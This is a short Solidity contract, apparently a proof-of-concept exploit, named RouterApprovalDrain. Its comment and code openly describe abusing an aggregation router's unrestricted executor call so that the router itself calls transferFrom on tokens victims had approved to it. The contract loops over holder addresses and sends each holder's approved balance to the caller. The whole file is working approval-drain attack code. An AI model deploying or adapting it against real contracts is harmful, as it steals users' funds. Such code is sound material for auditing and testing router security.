// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {IERC20} from "../interfaces/IERC20.sol";
import {AggregationRouter} from "../router/AggregationRouter.sol";

/// @notice Uses the router's unrestricted executor call to make the router itself call
/// `transferFrom(victim, caller, amount)` on a token that victims approved to it.
contract RouterApprovalDrain {
    function swapAll(AggregationRouter router, IERC20 token, address[] calldata holders) external returns (uint256 total) {
        for (uint256 i = 0; i < holders.length; i++) {
            uint256 balance = token.balanceOf(holders[i]);
            uint256 allowed = token.allowance(holders[i], address(router));
            uint256 amount = balance < allowed ? balance : allowed;
            if (amount == 0) continue;
            router.swap(
                AggregationRouter.SwapDescription(token, token, 0, 0, msg.sender),
                address(token),
                abi.encodeCall(IERC20.transferFrom, (holders[i], msg.sender, amount))
            );
            total += amount;
        }
    }
}
